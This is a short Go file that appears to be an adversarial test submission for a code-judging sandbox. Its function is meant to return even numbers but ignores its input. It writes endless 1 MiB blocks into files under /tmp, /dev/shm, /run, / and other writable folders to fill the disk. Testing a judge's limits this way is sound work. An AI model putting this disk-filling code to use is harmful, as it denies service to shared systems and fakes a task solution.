// tries: fills every folder that it may write to
// verdict: wrong_answer, time_limit_exceeded
package main

import "os"
import "strconv"

func Evens(numbers []int) []int {
	block := make([]byte, 1<<20)
	for _, place := range []string{"/tmp", "/var/tmp", "/dev/shm", "/run", "/w/sample", "/w", "/", "/w/sample/tmp"} {
		for number := range 6 {
			file, err := os.Create(place + "/large" + strconv.Itoa(number))
			for err == nil {
				_, err = file.Write(block)
			}
		}
	}
	return nil
}
